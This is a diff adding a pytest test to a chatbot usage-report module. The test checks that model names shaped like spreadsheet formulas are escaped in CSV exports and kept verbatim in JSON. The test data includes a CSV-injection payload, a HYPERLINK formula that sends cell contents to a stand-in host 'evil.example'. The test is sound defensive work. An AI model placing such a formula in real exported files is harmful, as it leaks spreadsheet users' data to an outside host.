@@ -17,7 +17,8 @@ from bot.models import DRY_RUN, Lineage, LineageKind, Note, NoteKind, Usage
 from bot.store import Store
 from bot.usage import GROUPINGS, UNSETTLED, as_csv, as_json, report, total
 from tests.bot.test_store import a_turn
-from tests.conftest import make_spec
+from tests.conftest import make_spec, run_all
+from tests.fake_openrouter import Reply
 
 pytestmark = pytest.mark.backends("sqlite", "postgres")
 
@@ -100,3 +101,18 @@ async def test_reports_stay_exact_for_any_amounts(tmp_path_factory, costs, summa
         expected = await spent_by_dialogues(store)
         for by in GROUPINGS:
             assert total(await report(store, by)) == expected
+
+
+async def test_a_model_name_a_provider_wrote_as_a_formula_stays_text_in_the_csv(runner, store, server):
+    """The provider names the model that answered; opened in a spreadsheet, a name that begins
+    like a formula would run (=HYPERLINK sends the sheet's data away)."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    server.enqueue(Reply(text="hello", model=formula), Reply(text="back", model="@SUM(1+1)"))
+    dialogue = await runner.create(make_spec(rounds=1))
+    await run_all(runner, dialogue.id)
+    lines = as_csv(await report(store, "model"), "model").splitlines()
+    keys = [line.rsplit(",", 4)[0] for line in lines[1:]]
+    assert sorted(keys) == sorted(['"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")"', "'@SUM(1+1)"])
+    assert not any(line.startswith(("=", "+", "-", "@")) for line in lines)
+    document = json.loads(as_json(await report(store, "model"), "model"))
+    assert formula in [r["model"] for r in document["rows"]]  # JSON is data, not a sheet: as written
